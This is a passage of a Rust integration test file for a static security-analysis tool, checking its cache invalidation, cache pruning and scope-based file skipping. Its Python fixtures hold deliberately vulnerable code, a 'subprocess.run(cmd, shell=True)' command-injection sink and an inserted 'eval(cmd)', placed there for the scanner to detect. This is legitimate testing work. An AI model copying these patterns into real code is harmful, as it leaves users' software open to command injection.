            .arg(&root)
            .args(extra)
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (cold, _) = run(&[]);
    assert_eq!(cold, facts_without_cache(&root));
    let (_, err) = run(&["--stats", "-o", "/dev/null"]);
    let (warm, _) = run(&[]);
    let n = stats_files(&err);
    assert!(n > 3, "{err}");
    assert!(
        err.contains(&format!("; {n} files from the cache ({n} unread)")),
        "{err}"
    );
    assert_eq!(warm, cold);

    // Same size, other content, modification time put back.
    let modified = std::fs::metadata(&py).unwrap().modified().unwrap();
    let changed = text.replace("return cmd", "eval(cmd) ");
    assert_eq!(changed.len(), text.len());
    std::fs::write(&py, &changed).unwrap();
    std::fs::File::options()
        .write(true)
        .open(&py)
        .unwrap()
        .set_modified(modified)
        .unwrap();
    let (_, err) = run(&["--stats", "-o", "/dev/null"]);
    let (out, _) = run(&[]);
    assert!(
        err.contains(&format!(
            "; {} files from the cache ({} unread)",
            n - 1,
            n - 1
        )),
        "{err}"
    );
    assert!(
        out.contains("builtins.eval"),
        "the changed file's new fact: {out}"
    );
    assert_eq!(out, facts_without_cache(&root));
}

/// The cache directory stays bounded: beyond 256 packs (one per scanned
/// root), the least recently written go first, never the one just written;
/// temporary packs of runs that died an hour ago are removed.
#[test]
fn cache_prunes_the_oldest_packs() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp.path().join("cache");
    let v1 = cache.join("v1");
    std::fs::create_dir_all(&v1).unwrap();
    let now = std::time::SystemTime::now();
    let day = std::time::Duration::from_secs(86_400);
    // 300 packs of other roots, pack i written i days ago.
    for i in 0..300u64 {
        let p = v1.join(format!("{i:032x}.pack"));
        std::fs::write(&p, b"TSCACHE1").unwrap();
        let f = std::fs::File::options().write(true).open(&p).unwrap();
        f.set_modified(now - day * (i as u32 + 1)).unwrap();
    }
    let stale = v1.join(".dead.pack.4242.tmp");
    std::fs::write(&stale, b"half").unwrap();
    std::fs::File::options()
        .write(true)
        .open(&stale)
        .unwrap()
        .set_modified(now - day)
        .unwrap();
    let out = bin()
        .args(["facts", "--format", "json", "--cache-dir"])
        .arg(&cache)
        .arg(fixtures().join("py_flask"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let names: Vec<String> = std::fs::read_dir(&v1)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    let packs = names.iter().filter(|n| n.ends_with(".pack")).count();
    assert_eq!(packs, 256, "{names:?}");
    // The newest 255 of the others stay beside this run's pack.
    assert!(names.contains(&format!("{:032x}.pack", 0)));
    assert!(names.contains(&format!("{:032x}.pack", 254)));
    assert!(!names.contains(&format!("{:032x}.pack", 255)));
    assert!(!names.contains(&format!("{:032x}.pack", 299)));
    assert!(!names.iter().any(|n| n.ends_with(".tmp")), "{names:?}");
}

/// A command that leaves a code scope out does not parse its files: they
/// are counted in the note, not in `files_scanned`; a file that cannot be
/// analysed (not UTF-8) is still reported as skipped, as before. A facts run
/// over every scope finds the left-out files' entries still in the cache
/// afterwards.
#[test]
fn files_of_a_scope_left_out_are_not_parsed() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("repo");
    std::fs::create_dir_all(root.join("app")).unwrap();
    std::fs::create_dir_all(root.join("tests")).unwrap();
    std::fs::write(
        root.join("app/main.py"),
        "import subprocess\n\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n",
    )
    .unwrap();
    std::fs::write(
        root.join("tests/test_main.py"),
        "import subprocess\n\ndef test_run():\n    subprocess.run('ls', shell=True)\n",
    )
    .unwrap();
    std::fs::write(root.join("tests/test_bad.py"), b"x = '\xff\xfe'\n").unwrap();
    let cache = tmp.path().join("cache");
    let json = |args: &[&str], extra: &[&str]| {
        let out = bin().args(args).arg(&root).args(extra).output().unwrap();
        assert!(out.status.code().is_some_and(|c| c <= 1), "{out:?}");
        (
            serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let c = cache.to_str().unwrap();
    // facts: every scope by default; fills the cache with both Python files.
    let (all, err) = json(&["facts", "--format", "json"], &["--cache-dir", c]);
    assert_eq!(all["stats"]["files_scanned"], 2, "{err}");
    assert!(
        err.contains("skipped tests/test_bad.py: not valid UTF-8"),
        "{err}"
    );
    // model: production only, with and without the cache.
    for extra in [&["--no-cache"][..], &["--cache-dir", c][..]] {
        let (m, err) = json(&["model", "--format", "json"], extra);
        assert_eq!(m["summary"]["files_scanned"], 1, "{extra:?}: {err}");
        assert!(
            err.contains("left out 1 test file ")
                && err.contains("skipped tests/test_bad.py: not valid UTF-8"),
            "{extra:?}: {err}"
        );
        assert_eq!(m["summary"]["files_skipped"], 1, "{extra:?}: {err}");
    }
    // The production-only runs kept the test file's entry: a facts run
    // takes both parsed files from the cache.
    let out = bin()
        .args(["facts", "--stats", "-o", "/dev/null", "--cache-dir", c])
        .arg(&root)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("; 2 files from the cache"), "{err}");
    // Not parsed: a production-only run on a fresh cache writes entries
    // for the production file alone, so facts then parses the test file.
    let fresh = tmp.path().join("fresh");
    let f = fresh.to_str().unwrap();
    json(&["model", "--format", "json"], &["--cache-dir", f]);
    let out = bin()
        .args(["facts", "--stats", "-o", "/dev/null", "--cache-dir", f])
        .arg(&root)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("; 1 files from the cache"), "{err}");
    // Included again, the test file is parsed and its fact is there.
    let (s, _) = json(
        &[
            "scan",
            "--format",
            "json",
            "--fail-on",
            "never",
            "--include",
            "test",
        ],
        &["--no-cache"],
    );
    let text = s.to_string();
    assert!(text.contains("tests/test_main.py"), "{text}");
}
